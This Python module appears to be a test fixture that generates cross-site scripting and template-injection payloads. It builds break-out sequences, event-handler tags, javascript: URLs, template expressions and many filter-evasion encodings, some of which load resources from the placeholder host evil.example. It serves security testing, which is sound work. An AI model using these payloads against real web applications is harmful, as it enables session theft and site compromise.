"""What somebody could put into a text, a name or a search so that a page runs it or loads something.

Made, not collected: every tag in every place it could break out of, in every spelling that some step might undo.

Whatever runs sets ``window.__xss`` or asks for something at evil.example.
"""

from __future__ import annotations

import itertools
from collections.abc import Callable
from urllib.parse import quote

RUN = "__xss=1"
OTHER = "//evil.example"

BREAK_OUT = ["", '">', "'>", "</title>", "</script>", "</style>", "</textarea>", "-->", "]]>", "</svg>", "</noscript>"]
TAGS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script>",
    f"<svg><animate onbegin={RUN}>",
    f"<svg><a href=javascript:{RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video src onerror={RUN}>",
    f"<audio src onerror={RUN}>",
    f"<iframe src=javascript:{RUN}>",
    f"<iframe srcdoc='<p onclick={RUN}>'>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN}>x",
    f"<form action=javascript:{RUN}>",
    f"<button formaction=javascript:{RUN}>",
    f"<marquee onstart={RUN}>",
    f"<math href=javascript:{RUN}>",
    f"<x onpointerenter={RUN} tabindex=0>",
    f"<img src={OTHER}/x>",
    f"<script src={OTHER}></script>",
    f"<link rel=stylesheet href={OTHER}>",
    f"<base href={OTHER}/>",
    f"<meta http-equiv=refresh content=0;{OTHER}>",
    f"<style>@import'{OTHER}'</style>",
    f"<p style=background:url({OTHER})>",
]
INSIDE = [
    f'" onmouseover="{RUN}',
    f"' autofocus onfocus='{RUN}",
    f'" autofocus onfocus={RUN} x="',
    f" onload={RUN} ",
    f'" style="background:url({OTHER})',
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f'"}};{RUN};//',
    f"';{RUN};//",
    f"`;{RUN};`",
    f"\\u0022;{RUN}//",
    f"\u2028{RUN}\u2029",
    f"*/{RUN}/*",
    f"</script><script>{RUN}//",
    f"<!--<script>{RUN}",
    f"{{{{{RUN}}}}}",
    f"${{{RUN}}}",
    f"#{{{RUN}}}",
    f"<%= {RUN} %>",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{{ ''.__class__.__mro__ }}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"{{{{'a'.constructor.prototype.x={RUN}}}}}",
    "*{7*7}",
    "[[${7*7}]]",
]
SPELLINGS: list[Callable[[str], str]] = [
    lambda text: text,
    str.swapcase,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#60;"),
    lambda text: text.replace("<", "&#x3c"),
    lambda text: quote(text, safe=""),
    lambda text: text.replace("<", "\\u003c"),
    lambda text: text.replace("<", "\\x3c"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.replace(" ", "\x0c").replace("=", "\n=\t"),
    lambda text: f"\u202e{text}\u202c",
    lambda text: text.replace("s", "\u017f"),  # its capital is an S
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.replace("<", "%253C"),
]


def payloads() -> list[str]:
    """All of them, each once."""
    plain = [before + tag for before, tag in itertools.product(BREAK_OUT, TAGS)]
    spelt = [spell(before + tag) for spell, before, tag in itertools.product(SPELLINGS, BREAK_OUT[:3], TAGS)]
    inside = [spell(text) for spell, text in itertools.product(SPELLINGS, INSIDE)]
    return list(dict.fromkeys([*plain, *spelt, *inside]))


def names(count: int) -> list[str]:
    """Names that a folder can have, spread over all payloads."""
    possible = [text for text in payloads() if "/" not in text and "\x00" not in text and len(text.encode()) < 200]
    return possible[:: max(1, len(possible) // count)][:count]
